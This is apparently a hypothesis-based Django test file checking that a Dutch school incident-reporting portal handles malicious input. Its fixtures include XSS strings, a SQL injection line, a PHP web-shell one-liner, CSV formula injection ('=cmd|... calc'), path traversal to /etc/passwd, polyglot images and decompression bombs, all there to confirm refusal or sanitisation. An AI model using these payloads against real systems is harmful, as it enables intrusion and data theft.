"""Bad input never gives a 500 and never loses data (property-based, with hypothesis).

- The report form (/melden/): any text (emoji, right-to-left, NUL and other control characters, texts
  beyond the maximum length), invalid dates, wrong choices and missing fields. The answer is 302 (stored,
  exactly as typed) or 400 (nothing stored, what was typed shown again). NUL is refused with Django's
  Dutch message (PostgreSQL text cannot hold it).
- The record forms of the case page (/zaken/<pk>/vastleggen/<kind>/) as the school leader: the same.
- What was stored comes out of the registers: control characters do not break the XLSX export, and typed
  text is never a formula in the CSV or XLSX file.
- The upload path: ``portal.uploads.upload_clean`` on its own and the report form with files. Polyglots
  (an image with HTML or PHP after it or in a comment, GIF/PDF mixtures), truncated images, images that
  claim enormous dimensions, wrong extensions, empty files and random bytes. An accepted image is served
  only re-encoded, without the payload (the form checks it, a worker re-encodes it after the commit; until
  then it is not served); a refused file leaves no Evidence row and no file in private storage.

A 500 would surface as an exception in the test client, which fails the example.
"""

import datetime
import io
import os
import re
import struct
import zlib

import pytest
from django import forms
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import TestCase
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st
from PIL import Image

from incidents import services as incident_services
from incidents.forms import FIELD_FORMS, RECORD_FORMS
from incidents.models import Evidence, Incident
from portal.models import PersonKind, Role
from portal.files import private_storage
from portal.uploads import CleanUpload, upload_clean
from tests.factories import IncidentFactory, PersonFactory, member

from .world import private_files, remove_private_files

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("dutch")]

MODEST = settings(
    max_examples=30, deadline=None, database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)


# Text -------------------------------------------------------------------------------------------------

NASTY = [
    "😀👩‍👩‍👧‍👦🏳️‍🌈", "مرحبا، هذا نص عربي", "שלום עולם", "\u202egnp.exe\u202c", "\u200b\u200d\ufeff\u2060",
    "Z̴̡̢͎a̷͙l̸̰g̵o̶", "a\x00b", "\x00", "\x01\x02\x07\x1b[31mrood", "\x0b\x0c\x1c\x1d\x1e\x1f", "\r\n\r\n", "\t",
    "\ud7ff\ue000\U0010ffff", "<script>alert(1)</script>", "'; DROP TABLE incidents_incident; --", "{{ 7|add:7 }}",
    "%s%n%(x)s", "\\", "\u0085\u2028\u2029", "ﬁ ß İ ı ǅ",
]
short_texts = st.one_of(
    st.text(max_size=40),  # any code point hypothesis likes, control characters included
    st.sampled_from(NASTY),
    st.lists(st.one_of(st.sampled_from(NASTY), st.text(max_size=6)), min_size=1, max_size=5).map("".join),
)
# Around and far beyond the limits of the fields (500, 2000, 5000, 20000 characters).
long_texts = st.tuples(st.sampled_from([101, 201, 301, 501, 2001, 5001, 19_999, 20_000, 20_001, 60_000]),
                       st.sampled_from(["a", "é", "😀", "مر", "x\x0b"])).map(lambda t: (t[1] * t[0])[: t[0]])
texts = st.one_of(short_texts, short_texts, long_texts)
# Text a form keeps: no NUL, something besides whitespace. Emoji, right-to-left and control characters included.
storable_texts = short_texts.filter(lambda text: "\x00" not in text and text.strip())

MISSING = object()


def maybe_missing(strategy):
    return st.one_of(strategy, strategy, strategy, st.just(MISSING))


def local(moment):
    return timezone.localtime(moment).strftime("%Y-%m-%dT%H:%M")


BAD_DATES = [
    "2026-02-30T10:00", "2025-13-01T10:00", "2025-00-10T10:00", "31-12-2025 25:61", "0000-00-00T00:00", "9999-12-31T23:59",
    "0001-01-01T00:00", "1-1-1 1:1", "2026-03-29T02:30", "2025-10-26T02:30", "gisteren", "", " ", "2025-06-01",
    "2025-06-01T10:00:00.000000000001", "2025-06-01T10:00+14:00", "١٢-٠٣-٢٠٢٥ ١٠:٠٠",
]
dates = st.one_of(
    st.integers(min_value=-5 * 365 * 24, max_value=48).map(lambda h: local(timezone.now() - timezone.timedelta(hours=h))),
    st.datetimes(min_value=datetime.datetime(1, 1, 2), max_value=datetime.datetime(9999, 12, 30)).map(
        lambda d: d.strftime("%Y-%m-%dT%H:%M")),
    st.sampled_from(BAD_DATES),
    short_texts,
)


def recent():
    """A moment in the past year, as the datetime-local input sends it."""
    return st.integers(min_value=1, max_value=365 * 24).map(lambda h: local(timezone.now() - timezone.timedelta(hours=h)))


def choices_of(values):
    return st.one_of(st.sampled_from(list(values)), st.sampled_from(list(values)), short_texts)


# Shared helpers ----------------------------------------------------------------------------------------

def without_missing(data):
    return {key: value for key, value in data.items() if value is not MISSING}


def snapshot(*rows):
    """How many rows each of the app's tables has (history and audit log included), and the highest id, in one
    query; the given model instances as they are in the database; and the private files."""
    from django.apps import apps
    from django.db import connection

    models = [model for label in ("portal", "incidents", "sanctions", "consent")
              for model in apps.get_app_config(label).get_models()]
    quote = connection.ops.quote_name
    sql = " UNION ALL ".join(
        f"SELECT {index}, COUNT(*), COALESCE(MAX({quote(model._meta.pk.column)}), 0) FROM {quote(model._meta.db_table)}"
        for index, model in enumerate(models)
    )
    with connection.cursor() as cursor:
        cursor.execute(sql)
        counts = {models[index]._meta.label: (count, top) for index, count, top in cursor.fetchall()}
    current = {f"{row._meta.label} {row.pk}": list(row.__class__.objects.filter(pk=row.pk).values_list()) for row in rows}
    return {**counts, **current}, private_files()


def changed_tables(before, after):
    changed = sorted(label for label in before[0] if before[0][label] != after[0][label])
    return changed + (["private files"] if before[1] != after[1] else [])


def rolled_back(function):
    """Run one example in a savepoint that is undone afterwards, and remove the files it stored."""
    files = private_files()
    try:
        with transaction.atomic():
            function()
            transaction.set_rollback(True)
    finally:
        remove_private_files(private_files() - files)


def shows_again(response, value):
    return escape(value) in response.content.decode()


# The report form -------------------------------------------------------------------------------------

REPORT_URL = "/melden/"
CATEGORIES = [c for c, _label in Incident._meta.get_field("category").choices]
PLATFORMS = [c for c, _label in Incident._meta.get_field("platform").choices]
link_lists = st.lists(
    st.one_of(
        st.sampled_from([
            "https://www.instagram.com/p/abc/", "http://voorbeeld.nl/😀", "https://bücher.example/", "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>", "ftp://example.org/x", "https://" + "a" * 2100 + ".nl/",
            "//example.org", "https://[::1]/", "https://example.org/\x00", "https://example.org/\u202eexe.gnp",
        ]),
        short_texts,
    ),
    max_size=3,
).map("\n".join)

plausible_reports = st.fixed_dictionaries({
    "school": st.just("own"),
    "category": st.sampled_from(CATEGORIES),
    "platform": st.sampled_from(PLATFORMS),
    "description": storable_texts,
    "discovered_at": recent(),
    "privacy_flag": st.sampled_from(["on", ""]),
    "links": st.lists(st.sampled_from(["https://www.instagram.com/p/abc/", "http://voorbeeld.nl/😀", "https://bücher.example/",
                                       "https://example.org/?q=‮exe"]), max_size=2).map("\n".join),
})
chaotic_reports = st.fixed_dictionaries({
    "school": maybe_missing(st.one_of(st.just("own"), st.just("foreign"), short_texts)),
    "category": maybe_missing(choices_of(CATEGORIES)),
    "platform": maybe_missing(choices_of(PLATFORMS)),
    "description": maybe_missing(texts),
    "occurred_at": maybe_missing(dates),
    "discovered_at": maybe_missing(dates),
    "privacy_flag": maybe_missing(st.sampled_from(["on", "", "false", "0", "ja", "\x00"])),
    "links": maybe_missing(link_lists),
})
report_posts = st.one_of(plausible_reports, chaotic_reports, chaotic_reports)


@pytest.fixture
def reporter_client(client, school):
    client.force_login(member(Role.STAFF, school=school))
    return client


@MODEST
@given(post=report_posts)
def test_the_report_form_stores_exactly_what_was_typed_or_nothing(reporter_client, school, other_school, post):
    data = without_missing(post)
    if "school" in data:
        data["school"] = {"own": school.pk, "foreign": other_school.pk}.get(data["school"], data["school"])

    def example():
        before = snapshot()
        response = reporter_client.post(REPORT_URL, data)
        event(f"status {response.status_code}")
        assert response.status_code in (200, 302, 400)
        if response.status_code == 302:
            incident = Incident.objects.get(pk__gt=before[0]["incidents.Incident"][1])
            assert incident.school == school
            assert incident.description == data["description"].strip()
            assert (incident.category, incident.platform) == (data["category"], data["platform"])
            typed_links = [line.strip() for line in data.get("links", "").splitlines() if line.strip()]
            assert sorted(incident.evidence.values_list("url", flat=True)) == sorted(typed_links)
        else:
            assert not changed_tables(before, snapshot()), "a refused report left something behind"
            description = data.get("description", "")
            if description.strip() and "\x00" not in description:
                assert shows_again(response, description), "the typed description is gone"

    rolled_back(example)


def test_a_nul_character_is_refused_with_a_dutch_message(reporter_client, school):
    before = Incident.objects.count()
    response = reporter_client.post(REPORT_URL, {
        "school": school.pk, "category": "bullying", "platform": "whatsapp", "description": "Eerst\x00daarna",
        "discovered_at": local(timezone.now() - timezone.timedelta(hours=1)),
    })
    assert response.status_code == 400
    assert "Null-tekens zijn niet toegestaan." in response.content.decode()
    assert Incident.objects.count() == before



def test_a_nul_character_in_a_link_is_refused_at_the_links_field(reporter_client, school):
    """PostgreSQL cannot store a NUL in text or JSON: a link with one is refused like any other NUL, not a 500."""
    before = Incident.objects.count()
    response = reporter_client.post(REPORT_URL, {
        "school": school.pk, "category": "bullying", "platform": "whatsapp", "description": "Een link met een NUL",
        "discovered_at": local(timezone.now() - timezone.timedelta(hours=1)), "links": "https://example.org/a\x00b",
    })
    assert response.status_code == 400
    assert response.context["form"].errors["links"] == ["Null-tekens zijn niet toegestaan."]
    assert "Een link met een NUL" in response.content.decode()
    assert Incident.objects.count() == before


def test_a_nul_character_in_a_link_is_refused_on_the_public_page(client, school):
    from publicreports import services as public_services
    from publicreports.models import PublicReport
    page = public_services.reporting_page_for(school=school)
    response = client.post(reverse("publicreports:report", args=[page.key]), {
        "sender_role": "pupil", "description": "Een link met een NUL", "platform": "instagram",
        "links": "https://www.instagram.com/p/a\x00b/", "occurred_on": "", "sender_name": "", "sender_contact": "", "website": "",
    })
    assert response.status_code == 400
    assert "Null-tekens zijn niet toegestaan." in response.content.decode()
    assert not PublicReport.objects.exists()


# The record forms of the case page -----------------------------------------------------------------------

@pytest.fixture
def case_world(school, leader):
    """A case in step 3 (so that the decision can be recorded too), with people and users to pick."""
    member(Role.BOARD, board=school.board)
    member(Role.COUNSELLOR, board=school.board)
    PersonFactory(school=school)
    PersonFactory(school=school, kind=PersonKind.STAFF, class_name="")
    incident = IncidentFactory(school=school, assessing=True)
    return incident


BAD_IDS = ["", "0", "-1", "abc", "99999999999999999999", "1.5", "1e3", "\x00", "１"]


def field_values(field):
    """Values for one form field: mostly plausible ones, mixed with garbage of every kind."""
    if isinstance(field, forms.ModelChoiceField):
        ids = [str(pk) for pk in field.queryset.values_list("pk", flat=True)]
        good = st.sampled_from(ids) if ids else st.nothing()
        return st.one_of(good, good, st.sampled_from(BAD_IDS), short_texts)
    if isinstance(field, forms.NullBooleanField):
        return st.sampled_from(["true", "false", "unknown", "2", "3", "", "ja", "\x00"])
    if isinstance(field, forms.BooleanField):
        return st.sampled_from(["on", "", "false", "0", "\x00"])
    if isinstance(field, forms.ChoiceField):
        return choices_of([value for value, _label in field.choices if value != ""])
    if isinstance(field, forms.DateTimeField):
        return dates
    if isinstance(field, forms.URLField):
        return st.one_of(st.sampled_from(["https://www.tiktok.com/@x/video/1", "www.example.org/x", "javascript:alert(1)",
                                          "https://" + "b" * 2100 + ".nl"]), texts)
    if isinstance(field, forms.CharField):
        return texts
    raise AssertionError(f"no strategy for {field!r}")


def plausible_values(field):
    """A value the field takes, with the text drawn from storable_texts."""
    if isinstance(field, forms.ModelChoiceField):
        ids = [str(pk) for pk in field.queryset.values_list("pk", flat=True)]
        return st.sampled_from(ids) if ids else st.just(MISSING)
    if isinstance(field, forms.NullBooleanField):
        return st.sampled_from(["true", "false"])
    if isinstance(field, forms.BooleanField):
        return st.sampled_from(["on", ""])
    if isinstance(field, forms.ChoiceField):
        return st.sampled_from([value for value, _label in field.choices if value != ""])
    if isinstance(field, forms.DateTimeField):
        return recent()
    if isinstance(field, forms.URLField):
        return st.sampled_from(["https://www.tiktok.com/@x/video/1", "https://bücher.example/😀"])
    if isinstance(field, forms.CharField):
        limit = field.max_length or 20_000
        return storable_texts.filter(lambda text: len(text.strip()) <= limit)
    raise AssertionError(f"no strategy for {field!r}")


def record_posts(form):
    """Either every field filled in plausibly, or anything at all in any field."""
    fields = form.fields.items()
    return st.one_of(
        st.fixed_dictionaries({form.add_prefix(name): plausible_values(field) for name, field in fields}),
        st.fixed_dictionaries({form.add_prefix(name): maybe_missing(field_values(field)) for name, field in fields}),
    )


def blank_form(kind, incident):
    if kind in FIELD_FORMS:
        return FIELD_FORMS[kind](instance=incident, prefix=kind)
    return RECORD_FORMS[kind](incident=incident, prefix=kind)


@pytest.mark.parametrize("kind", sorted(RECORD_FORMS) + sorted(FIELD_FORMS))
def test_a_record_form_stores_exactly_what_was_typed_or_nothing(client, leader, case_world, kind):
    incident = case_world
    form = blank_form(kind, incident)
    url = reverse("incidents:record", args=[incident.pk, kind])
    client.force_login(leader)
    text_fields = [name for name, field in form.fields.items()
                   if isinstance(field, forms.CharField) and not isinstance(field, forms.URLField)]
    model = incident.__class__ if kind in FIELD_FORMS else form._meta.model

    @settings(MODEST, max_examples=12)
    @given(post=record_posts(form))
    def check(post):
        data = without_missing(post)

        def example():
            before = snapshot(incident)
            response = client.post(url, data)
            event(f"status {response.status_code}")
            assert response.status_code in (302, 400), response.status_code
            if response.status_code == 302:
                if kind in FIELD_FORMS:
                    stored = Incident.objects.get(pk=incident.pk)
                else:
                    stored = model.objects.get(pk__gt=before[0][model._meta.label][1])
                for name in text_fields:
                    assert getattr(stored, name) == data.get(form.add_prefix(name), "").strip(), name
            else:
                assert not changed_tables(before, snapshot(incident)), "a refused record left something behind"
                for name in text_fields:
                    typed = data.get(form.add_prefix(name), "")
                    if typed.strip() and "\x00" not in typed:
                        assert shows_again(response, typed), f"the typed {name} is gone"

        rolled_back(example)

    check()


# Query strings and posted ids -------------------------------------------------------------------------------

# (URL name, takes the school's id, who opens it) and the parameters its filters read.
FILTER_PAGES = [
    ("incidents:dashboard", False, "school_leader"), ("incidents:my_reports", False, "school_leader"),
    ("incidents:statistics", False, "school_leader"), ("incidents:breach_register", False, "privacy_officer"),
    ("incidents:breach_queue", False, "privacy_officer"), ("audit_trail", False, "privacy_officer"),
    ("sanctions:dossiers", False, "school_leader"), ("sanctions:list", False, "school_leader"),
    ("sanctions:police_register", False, "school_leader"), ("inbox", False, "school_leader"),
    ("consent:people", True, "school_leader"), ("consent:overview", True, "school_leader"),
    ("consent:check", True, "school_leader"), ("consent:registers", True, "school_leader"),
]
PARAMETERS = ["q", "klas", "soort", "state", "severity", "category", "platform", "school", "privacy", "older_than_days",
              "include_closed", "order", "status", "risk", "year", "kind", "filed_by", "date_from", "date_to", "action",
              "actor", "object_id", "unread", "purpose", "class_name", "pupils", "page", "export"]
parameter_values = st.one_of(
    st.sampled_from(["\x00", "a\x00b", "99999999999999999999", "-5", "2026-02-30", "csv", "xlsx", "pdf", "-reported_at", "on"]),
    st.sampled_from(BAD_IDS), short_texts,
)


@settings(MODEST, max_examples=15)
@given(query=st.dictionaries(st.sampled_from(PARAMETERS),
                             st.one_of(parameter_values, st.lists(parameter_values, max_size=3)), min_size=1, max_size=6))
def test_any_query_string_gives_a_page_or_a_refusal(client, school, leader, privacy_officer, query):
    users = {"school_leader": leader, "privacy_officer": privacy_officer}
    for name, takes_school, role in FILTER_PAGES:
        client.force_login(users[role])
        response = client.get(reverse(name, args=[school.pk] if takes_school else []), query)
        assert response.status_code in (200, 302, 400, 403, 404), (name, response.status_code)


def test_ids_that_are_not_numbers_are_a_404(client, school, leader):
    from consent.models import SchoolAccount, SchoolAccountManager

    pupil = PersonFactory(school=school, user=leader, date_of_birth=datetime.date(2008, 1, 1))
    account = SchoolAccount.objects.create(school=school, platform="instagram", handle="school", created_by=leader)
    SchoolAccountManager.objects.create(account=account, user=leader)
    client.force_login(leader)
    for value in ("abc", "1.5", "\x00", "²", "-1", ""):
        response = client.post(reverse("consent:mine"), {"person": pupil.pk, "answer": "granted", "purpose": value})
        assert response.status_code == 404, value
        response = client.post(reverse("consent:school_account", args=[account.pk]), {"manager": value})
        assert response.status_code == 404, value


# What was stored comes out of the registers as typed -------------------------------------------------------

formula_texts = st.sampled_from([
    '=HYPERLINK("https://example.org/?d="&A1,"Klik")', "=1+1", "=cmd|' /C calc'!A0", "+31 6 12345678", "-2+3", "@SUM(A1:A2)",
])


def csv_cells(response):
    import csv

    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def xlsx_text(value):
    """A string cell as a spreadsheet shows it: OOXML writes a control character such as a carriage return as
    ``_x000D_`` (and a typed ``_x`` as ``_x005F_x``), which Excel reads back and openpyxl leaves as it is."""
    if not isinstance(value, str):
        return value
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match[1], 16)), value)


def xlsx_cells(response):
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
    return [[cell for cell in row] for row in sheet.iter_rows()]


@settings(MODEST, max_examples=20)
@given(texts=st.lists(st.one_of(storable_texts.filter(lambda text: len(text.strip()) <= 100), formula_texts),
                      min_size=3, max_size=3))
@example(texts=["0\r0", "_x0041_", "=1+1"])  # a carriage return, and a typed OOXML escape, come back as typed
def test_typed_text_is_exported_as_text_and_never_as_a_formula(client, leader, case_world, texts):
    """A police report's texts in the police register: in the CSV as typed (a formula start gets a quote), in
    the XLSX as text cells (without the control characters a worksheet cannot hold)."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    from portal.exports import CSV_FORMULA_STARTS

    reference, contact, note = (text.strip() for text in texts)
    client.force_login(leader)

    def example():
        response = client.post(reverse("incidents:record", args=[case_world.pk, "police_report"]), {
            "police_report-filed_by": "school", "police_report-filed_at": local(timezone.now() - timezone.timedelta(hours=2)),
            "police_report-police_reference": texts[0], "police_report-police_contact": texts[1],
            "police_report-note": texts[2],
        })
        assert response.status_code == 302
        header, row = csv_cells(client.get("/aangiften/?export=csv"))
        for typed in (reference, contact, note):
            assert ("'" + typed if typed.startswith(CSV_FORMULA_STARTS) else typed) in row, typed
        header, row = xlsx_cells(client.get("/aangiften/?export=xlsx"))
        cells = {xlsx_text(cell.value): cell.data_type for cell in row}
        for typed in (reference, contact, note):
            shown = ILLEGAL_CHARACTERS_RE.sub("", typed)
            if shown:
                assert cells.get(shown) == "s", (typed, cells)

    rolled_back(example)


# The upload path -------------------------------------------------------------------------------------------

PAYLOADS = [
    b"<html><body><script>alert(document.cookie)</script></body></html>",
    b"<?php system($_GET['c']); ?>",
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    b"%PDF-1.4\n1 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n%%EOF",
    b"PK\x03\x04 zip",
]
PAYLOAD_MARKERS = [b"<script", b"<?php", b"onload=", b"/JavaScript", b"PK\x03\x04"]


def encoded(fmt, size, color, **options):
    buffer = io.BytesIO()
    Image.new("RGB", size, color).save(buffer, format=fmt, **options)
    return buffer.getvalue()


def png_chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def claimed_png(width, height):
    """A PNG whose header claims ``width`` × ``height`` pixels, with almost no pixel data: a decompression bomb."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
            + png_chunk(b"IEND", b""))


sizes = st.tuples(st.integers(1, 48), st.integers(1, 48))
colors = st.tuples(st.integers(0, 255), st.integers(0, 255), st.integers(0, 255))
payloads = st.sampled_from(PAYLOADS)
images = st.one_of(
    st.builds(encoded, st.just("PNG"), sizes, colors),
    st.builds(encoded, st.just("JPEG"), sizes, colors),
)


@st.composite
def polyglots(draw):
    """A real picture carrying a payload: after the image data, in a JPEG comment, or a GIF/PDF mixture."""
    how = draw(st.sampled_from(["append", "jpeg_comment", "png_text", "gif_pdf", "pdf_gif"]))
    payload = draw(payloads)
    size, color = draw(sizes), draw(colors)
    if how == "append":
        return draw(images) + payload
    if how == "jpeg_comment":
        return encoded("JPEG", size, color, comment=payload)
    if how == "png_text":
        from PIL import PngImagePlugin

        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", payload.decode("latin-1"))
        return encoded("PNG", size, color, pnginfo=info)
    gif = encoded("GIF", size, color)
    pdf = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    return gif + pdf if how == "gif_pdf" else pdf + gif + payload


@st.composite
def truncated(draw):
    data = draw(images)
    return data[: draw(st.integers(0, len(data) - 1))]


@st.composite
def mutated(draw):
    """A real picture with a few bytes changed, cut out or added."""
    data = bytearray(draw(images))
    for _ in range(draw(st.integers(1, 6))):
        if not data:
            break
        at = draw(st.integers(0, len(data) - 1))
        what = draw(st.sampled_from(["set", "cut", "insert"]))
        if what == "set":
            data[at] = draw(st.integers(0, 255))
        elif what == "cut":
            del data[at: at + draw(st.integers(1, 64))]
        else:
            data[at:at] = draw(st.binary(min_size=1, max_size=16))
    return bytes(data)


upload_contents = st.one_of(
    images,
    polyglots(),
    truncated(),
    mutated(),
    # Far beyond the pixel limit, and (intact chunks, too little pixel data) within it.
    st.builds(claimed_png, st.sampled_from([100_000, 65_535, 20_000, 7_000, 300]), st.sampled_from([100_000, 65_535, 20_000, 7_000, 200])),
    st.just(b""),
    st.binary(max_size=512),
    st.sampled_from([b"GIF89a", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"%PDF-", b"\x7fELF\x02\x01\x01" + b"\x00" * 64]),
)
upload_names = st.one_of(
    st.sampled_from([
        "scherm.png", "foto.jpg", "brief.pdf", "scherm.png.html", "shell.php", "foto.jpg.exe", "kaart.svg", ".htaccess",
        "../../etc/passwd", "geen-extensie", "x" * 300 + ".png", "😀.png", "\u202egnp.exe", "nul\x00.png", "a\nb.png",
    ]),
    short_texts.map(lambda name: name + ".png"),
)
UPLOAD_CODES = {"empty", "size", "type", "corrupt", "pixels", "active"}


def check_clean_image(clean, original):
    """An accepted image is the picture alone: re-encoded, readable, its format matching its type and name."""
    out = clean.content.read()
    clean.content.seek(0)
    assert clean.size == len(out)
    if clean.content_type == "application/pdf":
        assert out == original and out.startswith(b"%PDF-") and clean.content.name.endswith(".pdf")
        return
    expected_format = {"image/png": "PNG", "image/jpeg": "JPEG"}[clean.content_type]
    assert clean.content.name.endswith({"PNG": ".png", "JPEG": ".jpg"}[expected_format])
    with Image.open(io.BytesIO(out)) as image:
        assert image.format == expected_format
        image.load()
    end = out.rindex(b"IEND") + 8 if expected_format == "PNG" else out.rindex(b"\xff\xd9") + 2
    assert end == len(out), "something follows the image data"
    for marker in PAYLOAD_MARKERS:
        assert marker not in out, marker


@settings(MODEST, max_examples=40)
@given(content=upload_contents, name=upload_names)
def test_upload_clean_gives_a_clean_picture_or_a_dutch_refusal(content, name):
    try:
        clean = upload_clean(SimpleUploadedFile(name, content, content_type="image/png"))
    except ValidationError as error:
        event(f"refused: {error.code}")
        assert error.code in UPLOAD_CODES, error.code
        assert error.messages and all(message.strip() for message in error.messages)
        return
    event(f"accepted: {clean.content_type}")
    assert isinstance(clean, CleanUpload)
    assert content, "an empty file was accepted"
    check_clean_image(clean, content)


def test_uploads_stay_strict_after_a_pdf_was_made(client, leader, case_world):
    """Importing WeasyPrint (for the first PDF of the process) switches on Pillow's LOAD_TRUNCATED_IMAGES; the
    upload checks must still refuse an image that was cut short."""
    from PIL import ImageFile

    client.force_login(leader)
    assert client.get(reverse("incidents:case_report", args=[case_world.pk])).status_code == 200
    assert ImageFile.LOAD_TRUNCATED_IMAGES is False
    for fmt in ("JPEG", "PNG"):
        buffer = io.BytesIO()
        Image.frombytes("RGB", (60, 60), os.urandom(60 * 60 * 3)).save(buffer, format=fmt)
        half = buffer.getvalue()[: len(buffer.getvalue()) // 2]
        with pytest.raises(ValidationError) as refused:
            upload_clean(SimpleUploadedFile("half.img", half, content_type="image/png"))
        assert refused.value.code == "corrupt", fmt


@MODEST
@given(contents=st.lists(st.one_of(images, polyglots(), upload_contents), min_size=1, max_size=2), name=upload_names)
def test_the_report_form_stores_clean_files_or_nothing(reporter_client, school, contents, name):
    data = {
        "school": school.pk, "category": "identity_fraud", "platform": "instagram",
        "description": "Nepaccount met foto's van een leerling 😀",
        "discovered_at": local(timezone.now() - timezone.timedelta(hours=1)),
        "files": [SimpleUploadedFile(f"{n}-{name}", content, content_type="image/png") for n, content in enumerate(contents)],
    }

    def example():
        before = snapshot()
        response = reporter_client.post(REPORT_URL, data)
        event(f"status {response.status_code}")
        assert response.status_code in (302, 400), response.status_code
        if response.status_code == 400:
            assert not changed_tables(before, snapshot()), "a refused upload left something behind"
            assert not Evidence.objects.exists()
            assert shows_again(response, data["description"])
            return
        incident = Incident.objects.get(pk__gt=before[0]["incidents.Incident"][1])
        stored = list(incident.evidence.order_by("pk"))
        assert len(stored) == len(contents)
        assert len(private_files() - before[1]) == len(contents)
        kept = []
        for evidence, original in zip(stored, contents):
            url = reverse("incidents:evidence_file", args=[evidence.token])
            if not evidence.processed:  # an image waits for the worker that re-encodes it, and is not served before
                raw = evidence.file.name
                assert reporter_client.get(url).status_code == 404
                with TestCase.captureOnCommitCallbacks(execute=True):  # the original goes when the worker commits
                    incident_services.evidence_process(evidence_id=evidence.pk)
                evidence.refresh_from_db()
                assert evidence.processed
                if not evidence.file:  # the checks passed but the picture cannot be decoded: refused on the case
                    event("refused by the worker")
                    assert evidence.processing_error.strip() and not private_storage().exists(raw)
                    assert reporter_client.get(url).status_code == 404
                    continue
            kept.append((evidence, original))
        for evidence, original in kept:
            with evidence.file.open("rb") as handle:
                clean = CleanUpload(content=SimpleUploadedFile(evidence.file.name, handle.read()),
                                    content_type=evidence.content_type, original_name=evidence.original_name,
                                    size=evidence.size)
            check_clean_image(clean, original)
            assert evidence.original_name and "\x00" not in evidence.original_name

    rolled_back(example)
